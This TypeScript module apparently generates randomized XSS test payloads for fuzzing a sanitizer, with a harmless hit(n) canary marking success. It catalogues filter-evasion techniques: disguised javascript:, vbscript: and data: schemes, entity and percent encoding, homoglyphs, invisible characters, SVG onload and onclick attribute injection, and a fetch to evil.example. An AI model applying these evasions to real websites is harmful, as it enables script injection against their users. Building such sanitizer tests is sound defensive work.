import type { Chance } from './payload-chance.ts';

/** A piece of script that calls `hit(n)`, written in one way or another. */
export function scriptPayload(chance: Chance, number: number): string {
  return chance.of<(call: string) => string>([
    (call) => call,
    (call) => call,
    (call) => `window.${call}`,
    (call) => `top.${call}`,
    () => `parent['hit'](${number})`,
    () => `hit.call(this,${number})`,
    () => `[${number}].map(hit)`,
    (call) => `eval('${call}')`,
    (call) => `alert(${call})`,
    (call) => `setTimeout(()=>${call})`,
    (call) => `/*x*/${call}//`,
    () => `hit&lpar;${number}&rpar;`,
    () => `&#104;it(${number})`,
    () => `\\u0068it(${number})`,
    () => `fetch('https://evil.example/${number}');hit(${number})`,
  ])(`hit(${number})`);
}

/** An address that runs or loads something, plain or in disguise. */
export function addressPayload(chance: Chance, number: number): string {
  const script = scriptPayload(chance, number);
  return chance.of<() => string>([
    () => `${scheme(chance, 'javascript')}${script}`,
    () => `${scheme(chance, 'javascript')}${script}`,
    () => `${scheme(chance, 'javascript')}//a.example/%0a${script}`,
    () => `${scheme(chance, 'javascript')}'<script>${script}</script>'`,
    () => `${scheme(chance, 'vbscript')}MsgBox(${number})`,
    () => `${scheme(chance, 'data')}text/html,<script>${script}</script>`,
    () =>
      `${scheme(chance, 'data')}text/html;base64,${btoa(`<script>parent.hit(${number})</script>`)}`,
    () =>
      `${scheme(chance, 'data')}image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
    () =>
      `${chance.of(['feed', 'view-source', 'jar', 'https', 'blob', 'filesystem'])}:javascript:${script}`,
    () => `${chance.of(['//', '\\\\', '/\\', 'https:///', 'http:\\\\'])}evil.example/${number}`,
    () => `https://a.example@evil.example/${number}" onclick="${script}`,
    () => `#${chance.of(['"', "'", '><'])} onclick=${script}`,
  ])();
}

/** A scheme with its colon, its letters plain, in references, escaped or parted by what browsers drop. */
function scheme(chance: Chance, name: string): string {
  const disguise = chance.of<(letter: string) => string>([
    (letter) => letter,
    (letter) => (chance.below(2) === 0 ? letter : letter.toUpperCase()),
    (letter) => (chance.below(2) === 0 ? letter : reference(chance, letter)),
    (letter) => (chance.below(4) === 0 ? `${letter}${chance.of(dropped)}` : letter),
    (letter) => (chance.below(4) === 0 ? `%${hex(letter)}` : letter),
    (letter) => (chance.below(6) === 0 ? `\\${letter}` : letter),
    (letter) => (chance.below(6) === 0 ? chance.of(alike) : letter),
  ]);
  const lead = chance.below(3) === 0 ? chance.of([...dropped, ' ', '&#1;', '&#32;', '\u00a0']) : '';
  const colon = chance.of([':', ':', ':', '&colon;', '&#58;', '&#x3a;', '%3A', '\t:', '：']);
  return `${lead}${Array.from(name, disguise).join('')}${colon}`;
}

/** Controls and newlines that browsers drop from addresses, and what looks like nothing. */
const dropped = [
  '\t',
  '&#9;',
  '&#10;',
  '&Tab;',
  '&NewLine;',
  '&#x0D;',
  '\u0001',
  '\u200b',
  '\u00ad',
  '\u2028',
  '\u0000',
  '<!---->',
];
const alike = ['ѕ', 'ａ', 'ſ', 'ı', '𝒿'];

function reference(chance: Chance, letter: string): string {
  const zeros = '0'.repeat(chance.below(5));
  const end = chance.of([';', ';', '']);
  return chance.below(2) === 0
    ? `&#${zeros}${letter.charCodeAt(0)}${end}`
    : `&#${chance.of(['x', 'X'])}${zeros}${hex(letter)}${end}`;
}

function hex(letter: string): string {
  return letter.charCodeAt(0).toString(16);
}
